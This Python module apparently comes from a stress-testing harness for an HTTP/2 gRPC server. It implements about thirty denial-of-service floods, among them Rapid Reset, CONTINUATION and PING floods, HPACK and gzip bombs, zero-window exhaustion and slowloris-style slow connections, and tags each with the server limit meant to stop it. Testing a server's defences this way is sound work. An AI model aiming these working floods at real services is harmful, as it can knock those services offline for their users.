# SPDX-License-Identifier: Apache-2.0
"""The attacks. Each is a function that gets a `Flood` and uses it until its time is over."""

import gzip
import itertools
import time
from typing import Callable, NamedTuple

from . import wire
from .flood import Chunks, Flood
from .wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY,
                   RST_STREAM, SETTINGS, WINDOW_UPDATE)



class Attack(NamedTuple):
    run: Callable[[Flood], None]
    about: str
    """One sentence."""
    bound: str
    """What in the server bounds it: options by their names, the rest in words."""
    time_limited: bool
    """A time limit of the server has to end all of its connections."""


ATTACKS: dict[str, Attack] = {}


def attack(*bounds: str, time_limited: bool = False) -> Callable[[Callable[[Flood], None]], Callable[[Flood], None]]:
    def add(function: Callable[[Flood], None]) -> Callable[[Flood], None]:
        about = " ".join((function.__doc__ or "").split())
        ATTACKS[function.__name__] = Attack(function, about, ", ".join(bounds), time_limited)
        return function
    return add


# What bounds attacks and is no option.
TURNS = "reads of 2 ms a turn"
BOMB = "16 × `maxHeaderBytes` ends the connection"
ANSWERS = "20,000 answers not taken end the connection"


def repeated(piece: bytes, greeting: bytes = wire.HELLO, size: int = 1 << 15) -> Callable[[], Chunks]:
    """The greeting, then the same for ever."""
    chunk = piece * max(1, size // len(piece))
    return lambda: itertools.chain([greeting], itertools.repeat(chunk))


def streams(piece: Callable[[wire.Encoder, int], bytes], greeting: bytes = wire.HELLO, batch: int = 100,
            most: int = 1 << 30) -> Callable[[], Chunks]:
    """The greeting, then `piece` for stream 1, 3, 5 …"""
    def chunks() -> Chunks:
        encoder = wire.Encoder()
        yield greeting
        for first in range(1, 2 * most, 2 * batch):
            yield b"".join(piece(encoder, stream) for stream in range(first, first + 2 * batch, 2))
    return chunks


WAIT, LARGE, POUR, COLLECT, SLEEP = (wire.call_fields(name) for name in ("Wait", "Large", "Pour", "Collect", "Sleep"))
REQUEST = wire.message(b"hello")
RESET = wire.word(wire.CANCEL)


@attack("`maxConcurrentStreams`", "`resetBurst`", "`resetRate`")
def rapid_reset(flood: Flood) -> None:
    """Calls that are reset as soon as they have started."""
    flood.run(streams(lambda encoder, stream: encoder.head(stream, WAIT) + wire.frame(DATA, END_STREAM, stream, REQUEST)
                      + wire.frame(RST_STREAM, 0, stream, RESET)))


@attack("`resetBurst`", "`resetRate`", TURNS)
def rapid_reset_of_heads(flood: Flood) -> None:
    """The same without messages, over four connections."""
    flood.run(streams(lambda encoder, stream: encoder.head(stream, WAIT) + wire.frame(RST_STREAM, 0, stream, RESET)),
              connections=4)


@attack("`maxConcurrentStreams`", "`resetBurst`", "`resetRate`")
def cancel_storm(flood: Flood) -> None:
    """Five hundred calls that run, all reset at once, again and again."""
    def chunks() -> Chunks:
        encoder = wire.Encoder()
        yield wire.HELLO
        for first in range(1, 1 << 30, 1000):
            batch = range(first, first + 1000, 2)
            yield b"".join(encoder.head(stream, WAIT) + wire.frame(DATA, END_STREAM, stream, REQUEST)
                           for stream in batch)
            yield b"".join(wire.frame(RST_STREAM, 0, stream, RESET) for stream in batch)
    flood.run(chunks, connections=2)


@attack("8 CONTINUATION frames a header block")
def continuation_flood(flood: Flood) -> None:
    """A header block without an end, in small pieces."""
    start = wire.frame(HEADERS, 0, 1, wire.literals(wire.call_fields()))
    flood.run(repeated(wire.frame(CONTINUATION, 0, 1, wire.literals([("x", "y")])), wire.HELLO + start), connections=4)


@attack("8 CONTINUATION frames a header block")
def empty_continuation_flood(flood: Flood) -> None:
    """The same, in empty pieces."""
    start = wire.frame(HEADERS, 0, 1, wire.literals(wire.call_fields()))
    flood.run(repeated(wire.frame(CONTINUATION, 0, 1), wire.HELLO + start), connections=4)


@attack(TURNS)
def settings_flood(flood: Flood) -> None:
    """SETTINGS, each of which has to be acknowledged."""
    flood.run(repeated(wire.frame(SETTINGS, 0, 0, wire.setting(INITIAL_WINDOW_SIZE, 65_535))), connections=4)


@attack("1,000 acknowledgements not taken end the connection")
def settings_flood_unread(flood: Flood) -> None:
    """The same, by clients that never read the acknowledgements."""
    flood.run(repeated(wire.frame(SETTINGS)), connections=4, reads=False)


@attack("`maxConcurrentStreams`", TURNS)
def settings_windows(flood: Flood) -> None:
    """SETTINGS that move the windows of a thousand streams up and down."""
    opening = b"".join(wire.head(stream, POUR) + wire.frame(DATA, END_STREAM, stream, REQUEST)
                       for stream in range(1, 2001, 2))
    piece = b"".join(wire.frame(SETTINGS, 0, 0, wire.setting(INITIAL_WINDOW_SIZE, size)) for size in (0, 1))
    flood.run(repeated(piece, wire.hello(initial_window_size=0) + opening))


@attack("`minimumPingInterval`")
def ping_flood(flood: Flood) -> None:
    """PINGs without a call."""
    flood.run(repeated(wire.frame(PING, payload=b"12345678")), connections=4)


@attack("`minimumPingInterval`", "1,000 acknowledgements not taken end the connection")
def ping_flood_unread(flood: Flood) -> None:
    """PINGs beside a call that answers, so that they are no strikes, by a client that never reads."""
    opening = wire.head(1, POUR) + wire.frame(DATA, END_STREAM, 1, REQUEST)
    flood.run(repeated(wire.frame(PING, payload=b"12345678"), wire.HELLO + opening), connections=4, reads=False)


@attack("priorities are ignored", TURNS)
def priority_flood(flood: Flood) -> None:
    """PRIORITY for streams that do not exist."""
    piece = b"".join(wire.frame(PRIORITY, 0, stream, wire.word(stream - 2 if stream > 1 else 0) + b"\xff")
                     for stream in range(1, 4001, 2))
    flood.run(repeated(piece), connections=4)


@attack(TURNS)
def window_update_flood(flood: Flood) -> None:
    """WINDOW_UPDATE of one byte, for a stream and for the connection."""
    opening = wire.head(1, COLLECT)
    piece = wire.frame(WINDOW_UPDATE, 0, 0, wire.word(1)) + wire.frame(WINDOW_UPDATE, 0, 1, wire.word(1))
    flood.run(repeated(piece, wire.HELLO + opening), connections=4)


@attack(TURNS)
def empty_data_flood(flood: Flood) -> None:
    """DATA frames without data."""
    flood.run(repeated(wire.frame(DATA, 0, 1), wire.HELLO + wire.head(1, COLLECT)), connections=4)


@attack(TURNS)
def padding_flood(flood: Flood) -> None:
    """DATA frames of padding alone."""
    piece = wire.frame(DATA, wire.PADDED, 1, b"\xff" + bytes(255))
    flood.run(repeated(piece, wire.HELLO + wire.head(1, COLLECT)), connections=2)


@attack("`streamWindow`", "`connectionBuffer`")
def tiny_messages(flood: Flood) -> None:
    """Empty messages to a handler that never reads."""
    piece = wire.frame(DATA, 0, 1, wire.message() * 3000)
    flood.run(repeated(piece, wire.HELLO + wire.head(1, SLEEP)), connections=2)


@attack(ANSWERS)
def reset_answers_unread(flood: Flood) -> None:
    """Streams that each are answered by RST_STREAM, by clients that never read."""
    flood.run(streams(lambda encoder, stream: encoder.head(stream, [(":method", "POST")])), connections=4, reads=False)


@attack("`maxHeaderBytes`", BOMB)
def hpack_bomb(flood: Flood) -> None:
    """A field of 4,000 bytes, put into the table once and named by single bytes from then on."""
    entry = b"\x40" + wire.text("x") + wire.text("y" * 3900)
    first = wire.frame(HEADERS, END_HEADERS | END_STREAM, 1, wire.literals(wire.call_fields()) + entry)
    bomb = wire.literals(wire.call_fields()) + b"\xbe" * 16_000

    def chunks() -> Chunks:
        yield wire.HELLO + first
        for stream in range(3, 1 << 30, 2):
            yield wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)
    flood.run(chunks, connections=2)


@attack("`maxHeaderBytes`", "8 CONTINUATION frames a header block")
def huge_headers(flood: Flood) -> None:
    """Header lists of 100 KiB, in as many CONTINUATION frames as are borne."""
    block = wire.literals(wire.call_fields() + [(f"x-{index}", "y" * 1000) for index in range(100)])
    pieces = [block[offset:offset + 16_384] for offset in range(0, len(block), 16_384)]

    def chunks() -> Chunks:
        yield wire.HELLO
        for stream in range(1, 1 << 30, 2):
            yield b"".join(
                wire.frame(CONTINUATION if index else HEADERS,
                           (0 if index else END_STREAM) | (END_HEADERS if index == len(pieces) - 1 else 0), stream, piece)
                for index, piece in enumerate(pieces))
    flood.run(chunks, connections=2)


@attack("`maxRequestBytes`", "one decompression at a time for each connection")
def gzip_bomb(flood: Flood) -> None:
    """Messages of 16 KiB that inflate to 16 MiB."""
    bomb = gzip.compress(bytes(1 << 24), compresslevel=9)
    fields = wire.call_fields(grpc_encoding="gzip")
    framed = wire.message(bomb, flag=1)
    pieces = [framed[offset:offset + 16_384] for offset in range(0, len(framed), 16_384)]

    def call(encoder: wire.Encoder, stream: int) -> bytes:
        return encoder.head(stream, fields) + b"".join(
            wire.frame(DATA, END_STREAM if index == len(pieces) - 1 else 0, stream, piece)
            for index, piece in enumerate(pieces))
    flood.run(streams(call, batch=1))


@attack("`connectionBuffer`", "`maxConnectionBuffer`")
def one_byte_windows(flood: Flood) -> None:
    """Responses of a mebibyte, taken byte by byte."""
    opening = b"".join(wire.head(stream, LARGE) + wire.frame(DATA, END_STREAM, stream, REQUEST)
                       for stream in range(1, 2001, 2))
    piece = b"".join(wire.frame(WINDOW_UPDATE, 0, stream, wire.word(1)) for stream in range(1, 2001, 2))
    flood.run(repeated(piece, wire.hello(initial_window_size=1) + opening))


@attack("`connectionBuffer`", "`maxConnectionBuffer`")
def zero_windows(flood: Flood) -> None:
    """A thousand endless responses that nobody takes."""
    opening = b"".join(wire.head(stream, POUR) + wire.frame(DATA, END_STREAM, stream, REQUEST)
                       for stream in range(1, 2001, 2))
    flood.run(lambda: iter([wire.hello(initial_window_size=0) + opening]))


@attack("`connectionBuffer`", "`maxConnectionBuffer`")
def unread_responses(flood: Flood) -> None:
    """Endless responses with windows wide open, to clients that do not read their sockets."""
    opening = b"".join(wire.head(stream, POUR) + wire.frame(DATA, END_STREAM, stream, REQUEST)
                       for stream in range(1, 201, 2))
    greeting = wire.hello(initial_window_size=(1 << 31) - 1) + wire.frame(WINDOW_UPDATE, 0, 0, wire.word((1 << 31) - 65_536))
    flood.run(lambda: iter([greeting + opening]), connections=4, reads=False)


@attack("`maxConnectionBuffer`")
def unfinished_messages(flood: Flood) -> None:
    """Messages that lack their last byte, on a thousand streams."""
    almost = wire.message(bytes(1 << 20))[:-1]
    pieces = [almost[offset:offset + 16_384] for offset in range(0, len(almost), 16_384)]
    flood.run(streams(lambda encoder, stream: encoder.head(stream, wire.call_fields())
                      + b"".join(wire.frame(DATA, 0, stream, piece) for piece in pieces), batch=1, most=1000))


@attack("`maxRequestBytes`")
def announced_4_gib(flood: Flood) -> None:
    """Messages that are announced with 4 GiB, on one stream after the other."""
    start = b"\0\xff\xff\xff\xff" + bytes(1000)
    flood.run(streams(lambda encoder, stream: encoder.head(stream, COLLECT) + wire.frame(DATA, 0, stream, start)))


@attack("`maxConcurrentStreams`")
def streams_beyond_the_limit(flood: Flood) -> None:
    """Streams that stay open, without end."""
    flood.run(streams(lambda encoder, stream: encoder.head(stream, COLLECT)), connections=2)


@attack("`maxConnectionsPerClient`", TURNS)
def connection_churn(flood: Flood) -> None:
    """Connections that make one call and leave, and some that leave at once."""
    while not flood.is_over:
        connection = flood.open()
        if connection is None:
            time.sleep(0.01)
            continue
        if flood.counts["connections"] % 4:
            flood.counts["bytes"] += connection.send(wire.HELLO + wire.call(1))
        connection.close()


@attack("`handshakeTimeout`", time_limited=True)
def slow_preface(flood: Flood) -> None:
    """A preface, byte by byte, on five hundred connections."""
    flood.trickle(b"", wire.PREFACE[:-1], connections=flood.scaled(500), pause=0.3)


@attack("`headersTimeout`", time_limited=True)
def slow_headers(flood: Flood) -> None:
    """Headers, byte by byte, on five hundred connections."""
    block = wire.literals(wire.call_fields() + [("x", "y" * 5000)])
    request = wire.frame(HEADERS, END_HEADERS, 1, block)
    flood.trickle(wire.HELLO + request[:100], request[100:-1], connections=flood.scaled(500), pause=0.1)


@attack("`maxConnectionIdle`", time_limited=True)
def slow_frames(flood: Flood) -> None:
    """A frame of SETTINGS, byte by byte, on five hundred connections."""
    flood.trickle(wire.HELLO, wire.frame(SETTINGS, payload=wire.setting(INITIAL_WINDOW_SIZE, 1000) * 100)[:-1],
                  connections=flood.scaled(500), pause=0.1)


@attack("`maxConnectionsPerClient`", "`maxConnectionIdle`", time_limited=True)
def idle_connections(flood: Flood) -> None:
    """Ten thousand connections that say hello and nothing more."""
    flood.trickle(wire.HELLO, b"", connections=flood.scaled(10_000), pause=0.2)


@attack("`maxConnectionsPerClient`", "`handshakeTimeout`", time_limited=True)
def mute_connections(flood: Flood) -> None:
    """Ten thousand connections that say nothing at all."""
    flood.trickle(b"", b"", connections=flood.scaled(10_000), pause=0.2)
